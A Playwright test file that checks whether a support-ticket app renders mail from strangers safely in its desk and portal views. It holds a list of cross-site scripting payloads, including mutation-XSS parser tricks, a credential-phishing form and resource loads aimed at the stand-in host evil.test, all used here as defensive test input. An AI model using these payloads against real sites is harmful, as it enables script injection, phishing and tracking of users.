import { spawnSync } from 'node:child_process'
import { expect, test } from '@playwright/test'
import { eq } from 'drizzle-orm'
import { elif, mira } from '#src/demo/cast.ts'
import { db } from '#src/lib/db/client.ts'
import { receivedMails } from '#src/lib/db/tables/received.ts'
import { tickets } from '#src/lib/db/tables/tickets.ts'
import { deskPath, portalPath } from '#src/tickets/paths.ts'
import { mailOf } from '#tests/support/mail-corpus.ts'
import { signIn } from './support/sign-in.ts'

/** Markup that runs, loads, frames or sends where it is taken for markup; among it what changes when it is read twice. */
const hostile = [
  '<script>parent.ran=1</script>',
  '<svg onload="ran=1"><animate onbegin="ran=1" attributeName=x dur=1s></svg>',
  '<img src=x onerror="ran=1"><video><source onerror="ran=1"></video>',
  '<style>@import "https://evil.test/x.css"; body{display:none}</style><link rel=stylesheet href="https://evil.test/x.css">',
  '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">',
  '<form action="https://evil.test/"><input name=p><button>Sign in</button></form>',
  '<iframe src="javascript:ran=1"></iframe><object data="data:text/html,<script>ran=1</script>"></object><embed src=x>',
  '<a href="javascript:ran=1">one</a> <a href="data:text/html,<script>ran=1</script>">two</a> <a href=" vbscript:ran=1">three</a>',
  '<a href="https://evil.test/&quot;onmouseover=&quot;ran=1">four</a>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=ran=1&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=ran=1>">',
  '<svg></p><style><a id="</style><img src=x onerror=ran=1>">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=ran=1>',
  '<details open ontoggle=ran=1>five</details><p style="background:url(https://evil.test/p.gif)">six</p>',
  '&lt;script&gt;ran=1&lt;/script&gt;',
  '<template><img src=x onerror=ran=1></template><textarea></textarea><xmp><img src=x onerror=ran=1></xmp>',
]

const asText = [
  '<script>ran=1</script>',
  '[x](javascript:ran=1)',
  '<svg/onload=ran=1>',
  '{{constructor.constructor("ran=1")()}}',
]

test('What a stranger writes as a mail is words to everybody, and runs, loads and sends nothing', async ({
  browser,
  baseURL,
}) => {
  const id = () => `<${crypto.randomUUID()}@example.org>`
  const mails = [
    ['text/html; charset=utf-8', `<p>It stands on the pier.</p>${hostile.join('\n<p>and</p>\n')}`],
    ['text/plain; charset=utf-8', ['It stands on the pier.', ...asText, ...hostile].join('\n')],
  ] as const
  for (const [type, text] of mails) {
    const headers = {
      From: `"<img src=x onerror=ran=1>" <${elif.email}>`,
      Subject: '<svg onload=ran=1>My bicycle</title><script>ran=1</script>',
      'Content-Type': type,
    }
    const reference = await handedOver(mailOf({ ...headers, 'Message-ID': id() }, text))
    for (const [person, address] of [
      [mira, deskPath(reference)],
      [elif, portalPath(reference)],
    ] as const) {
      const context = await browser.newContext({ baseURL })
      const page = await context.newPage()
      await signIn(page, person)
      const [outside, said]: [string[], string[]] = [[], []]
      page.on('request', request => {
        if (!request.url().startsWith(baseURL ?? '')) outside.push(request.url())
      })
      page.on('console', message => said.push(message.text()))
      page.on('dialog', dialog => dialog.dismiss())
      await page.goto(address)
      const message = page.getByText('It stands on the pier.').first()
      await expect(message).toBeVisible()
      await expect(page.getByRole('heading', { level: 1 })).toContainText('<svg onload=ran=1>My bicycle')
      const found = await page.evaluate(() => ({
        ran: 'ran' in window,
        markup: document.querySelectorAll(
          'main :is(script, svg[onload], iframe, object, embed, base, style, video)',
        ).length,
        bad: [...document.querySelectorAll('main a')].filter(
          link => !/^(https?:|mailto:)/.test((link as HTMLAnchorElement).href),
        ).length,
        handlers: [...document.querySelectorAll('main *')].filter(element =>
          element.getAttributeNames().some(name => name.startsWith('on')),
        ).length,
      }))
      expect(found, address).toEqual({ ran: false, markup: 0, bad: 0, handlers: 0 })
      expect(outside, address).toEqual([])
      expect(
        said.filter(line => /Content Security Policy/i.test(line)),
        address,
      ).toEqual([])
      await context.close()
    }
  }
})

/** Hands a mail over as a mail server does. Resolves to the reference of the ticket that it became. */
async function handedOver(raw: Buffer) {
  const words = ['src/commands/run.mjs', 'mail-receive', 'support@kelpbay.test']
  expect(spawnSync(process.execPath, words, { input: raw }).status).toBe(0)
  const [found] = await db
    .select({ reference: tickets.reference })
    .from(receivedMails)
    .innerJoin(tickets, eq(tickets.id, receivedMails.ticketId))
    .where(eq(receivedMails.raw, raw))
  if (!found) throw new Error('It became no ticket')
  return found.reference
}
